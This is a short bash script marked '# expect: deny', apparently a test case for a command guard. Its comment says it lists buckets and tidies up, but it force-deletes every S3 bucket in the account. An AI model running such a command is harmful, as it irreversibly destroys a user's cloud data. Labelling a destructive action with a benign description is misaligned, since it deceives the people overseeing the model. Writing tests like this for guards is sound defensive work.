#!/usr/bin/env bash
# expect: deny
# Lists the buckets of the account and tidies up.
set -e
aws sts get-caller-identity
for bucket in $(aws s3 ls | awk '{print $3}'); do
  echo "$bucket"
  aws s3 rb "s3://$bucket" --force
done
